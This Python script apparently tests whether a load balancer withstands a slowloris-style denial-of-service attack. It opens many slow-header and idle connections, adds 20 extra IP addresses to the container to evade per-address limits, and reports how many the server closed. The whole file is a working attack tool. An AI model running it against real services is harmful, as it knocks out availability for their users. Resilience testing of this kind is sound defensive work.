"""Attacks the load balancer, from a container in its network. Needs Python only.

    python attack.py HOST SLOW IDLE

Opens SLOW connections, which send 30 KB of headers, then a byte each second, and never end, and
IDLE connections, which send nothing. They have 20 addresses: the limits for one address would end
the attack too soon. Prints "open" when all are open. Prints, as JSON, how many were still open when
a line was typed, how many the server closed, and how many seconds the last one stayed open.
"""

import contextlib
import fcntl
import ipaddress
import json
import selectors
import socket
import struct
import sys
import time
from typing import cast

assert sys.platform == "linux"  # a container is: mypy checks this file for that system only

PORT = 8080
ADDRESSES = 20
DEADLINE_SECONDS = 90
BEGINNING = b"GET /health HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + b"x" * 30_000

GET_ADDRESS, SET_ADDRESS, GET_NETMASK, SET_NETMASK = 0x8915, 0x8916, 0x891B, 0x891C


def interface(request: int, name: str, address: str = "0.0.0.0") -> str:
    """Read or set an address or netmask of an interface: see netdevice(7)."""
    packed = struct.pack("16sH2x4s8x", name.encode(), socket.AF_INET, socket.inet_aton(address))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
        reply = fcntl.ioctl(any_socket, request, packed)
    return socket.inet_ntoa(reply[20:24])


def add_addresses() -> list[str]:
    """Add addresses from the end of its network to this container."""
    own, netmask = interface(GET_ADDRESS, "eth0"), interface(GET_NETMASK, "eth0")
    network = ipaddress.ip_network(f"{own}/{netmask}", strict=False)
    addresses = [str(network.broadcast_address - 1 - i) for i in range(ADDRESSES)]
    for i, address in enumerate(addresses):
        interface(SET_ADDRESS, f"eth0:{i}", address)
        interface(SET_NETMASK, f"eth0:{i}", netmask)
    return addresses


def connect(host: str, sources: list[str], number: int, data: bytes) -> list[socket.socket]:
    """Open connections, from each of our addresses in turn, and send data on each."""
    connections = []
    for i in range(number):
        source = (sources[i % len(sources)], 0)
        connections.append(socket.create_connection((host, PORT), 10, source))
        connections[-1].sendall(data)
        connections[-1].setblocking(False)
    return connections


def main() -> None:
    """Attack, and print the report."""
    host, slow, idle = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    sources = add_addresses()
    started = time.monotonic()
    slow_ones = connect(host, sources, slow, BEGINNING)
    alive = selectors.DefaultSelector()
    for attacker in (*slow_ones, *connect(host, sources, idle, b"")):
        alive.register(attacker, selectors.EVENT_READ)
    alive.register(sys.stdin, selectors.EVENT_READ)
    print("open", flush=True)

    closed, still_open = 0, None
    while alive.get_map() and time.monotonic() < started + DEADLINE_SECONDS:
        for attacker in slow_ones:
            with contextlib.suppress(OSError):  # the selector reports a closed connection
                attacker.send(b"x")
        next_byte = time.monotonic() + 1
        while (wait_seconds := next_byte - time.monotonic()) > 0 and alive.get_map():
            for key, _ in alive.select(wait_seconds):
                if key.fd == sys.stdin.fileno():
                    still_open = slow + idle - closed
                    alive.unregister(sys.stdin)
                    continue
                attacker = cast(socket.socket, key.fileobj)
                with contextlib.suppress(OSError):
                    if attacker.recv(1_000):
                        continue
                alive.unregister(attacker)
                attacker.close()
                closed += 1
    seconds = round(time.monotonic() - started, 1)
    print(json.dumps({"still_open": still_open, "closed": closed, "longest_seconds": seconds}))


main()
